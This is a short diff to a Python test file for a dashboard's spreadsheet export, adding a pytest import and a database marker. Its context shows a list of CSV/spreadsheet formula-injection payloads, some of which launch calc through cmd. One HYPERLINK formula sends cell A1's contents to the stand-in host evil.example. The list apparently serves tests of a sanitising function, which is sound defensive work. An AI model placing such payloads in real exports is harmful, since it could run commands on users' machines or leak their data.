@@ -12,6 +12,7 @@ import io
 from typing import Any
 
 import openpyxl
+import pytest
 from fastapi import FastAPI
 from sqlalchemy import select
 
@@ -21,6 +22,8 @@ from dashboard.reports.export import neutralise
 from dashboard.reports.seed import seed_month
 from tests.reports.fixture_month import fixture_month
 from tests.security.user_support import api, app, db_url, postgres_database, postgres_server, settings  # noqa: F401
+
+pytestmark = pytest.mark.db
 
 PAYLOADS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|'/C calc'!A0",
             "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
